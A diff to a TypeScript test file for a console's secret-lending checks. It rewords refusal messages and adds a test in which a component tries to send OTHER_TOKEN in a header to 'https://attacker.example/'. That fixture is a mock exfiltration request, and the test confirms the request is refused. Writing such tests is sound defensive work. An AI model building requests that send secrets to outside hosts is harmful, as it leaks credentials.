@@ -20,12 +20,21 @@ test.each(WAYS)('a check of the console with %j is refused, added or tried, and 
     const answer = await desk.ask(verb, { component: { ...SPY, ...way } });
     expect(answer).toMatchObject({
       code: 'bad_component',
-      message: expect.stringContaining('refers to API_TOKEN, which the file does not lend to the console'),
+      message: expect.stringContaining('refers to API_TOKEN, and the configuration lends no secrets to what is entered here'),
     });
     expect(JSON.stringify(answer)).not.toContain(SECRETS['API_TOKEN']);
   }
   await using lending = await openConsoleDesk(LENT);
   expect(isRefusal(await lending.ask('add', { component: { ...SPY, ...way } }))).toBe(false);
+});
+
+test('the refusal of a secret that is not lent says which are, and who can lend it', () => {
+  const secret = (name: string): string | null => SECRETS[name] ?? null;
+  const way = { http: { url: 'https://attacker.example/', headers: { 'x-a': `\${OTHER_TOKEN}` } } };
+  const read = readConsoleComponent({ ...SPY, ...way }, 10_000, { config: readConfig(LENT), secret, ownPorts: [] });
+  expect('slug' in read ? [] : read.map(({ message }) => message)).toEqual([
+    '"x-a" refers to OTHER_TOKEN, which the configuration does not lend to what is entered here; it lends API_TOKEN. Whoever keeps its file can add OTHER_TOKEN to "probes.secrets"',
+  ]);
 });
 
 test('what was entered before the file took a name back is not probed with it', () => {
@@ -36,7 +45,7 @@ test('what was entered before the file took a name back is not probed with it', 
   const kept = { ...stored, check: { ...stored.check, definition: written } };
   expect(enteredComponent(kept, secret, ['API_TOKEN']).faults).toEqual([]);
   const { component, faults } = enteredComponent(kept, secret, []);
-  expect(faults.map(({ message }) => message)).toEqual([expect.stringContaining('which the file does not lend to the console')]);
+  expect(faults.map(({ message }) => message)).toEqual([expect.stringContaining('lends no secrets to what is entered here')]);
   expect(JSON.stringify(component)).not.toContain(SECRETS['API_TOKEN']);
 });
 
